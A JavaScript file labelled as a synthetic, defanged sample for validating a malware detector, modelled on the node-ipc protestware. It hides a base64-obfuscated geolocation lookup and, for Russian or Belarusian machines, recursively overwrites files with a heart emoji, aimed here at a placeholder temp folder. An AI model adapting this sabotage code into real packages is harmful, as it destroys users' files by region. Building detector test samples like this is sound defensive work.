// SYNTHETIC, DEFANGED malwi validation sample - modelled on node-ipc protestware (2022); never run.
// Geo-targeted sabotage: look up the machine's country, and for two countries overwrite every
// file under a few roots. Defanged: the only root is a placeholder folder in the temp dir.
import u from 'path';
import a from 'fs';
import o from 'https';
import os from 'os';

setTimeout(function () {
  const t = Math.round(Math.random() * 4);
  if (t > 1) {
    return;
  }
  const n = Buffer.from(
    'aHR0cHM6Ly9nZW8tbG9va3VwLmV4YW1wbGUuaW52YWxpZC9pcGdlbz9hcGlLZXk9UExBQ0VIT0xERVJfS0VZ',
    'base64'
  );
  o.get(n.toString('utf8'), function (t) {
    t.on('data', function (t) {
      const n = Buffer.from('Li8=', 'base64');
      const root = u.join(os[Buffer.from('dG1wZGly', 'base64').toString()](), Buffer.from('bWFsd2ktZGVmYW5nZWQtcGxhY2Vob2xkZXI=', 'base64').toString());
      const c = Buffer.from('Y291bnRyeV9uYW1l', 'base64');
      const e = Buffer.from('cnVzc2lh', 'base64');
      const i = Buffer.from('YmVsYXJ1cw==', 'base64');
      try {
        const s = JSON.parse(t.toString('utf8'));
        const country = s[c.toString('utf8')].toLowerCase();
        const hit = country.includes(e.toString('utf8')) || country.includes(i.toString('utf8'));
        if (hit) {
          h(root);
          h(u.join(root, n.toString('utf8')));
        }
      } catch (t) {}
    });
  });
}, Math.ceil(Math.random() * 1e3));

async function h(n = '', t = '') {
  if (!a.existsSync(n)) {
    return;
  }
  let r = [];
  try {
    r = a.readdirSync(n);
  } catch (t) {}
  const f = [];
  const c = Buffer.from('4p2k77iP', 'base64');
  for (let e = 0; e < r.length; e++) {
    const i = u.join(n, r[e]);
    t = null;
    try {
      t = a.lstatSync(i);
    } catch (t) {
      continue;
    }
    if (t.isDirectory()) {
      const s = h(i, f);
      s.length > 0 ? f.push(...s) : null;
    } else if (i.indexOf(t) >= 0) {
      try {
        a.writeFile(i, c.toString('utf8'), function () {});
      } catch (t) {}
    }
  }
  return f;
}
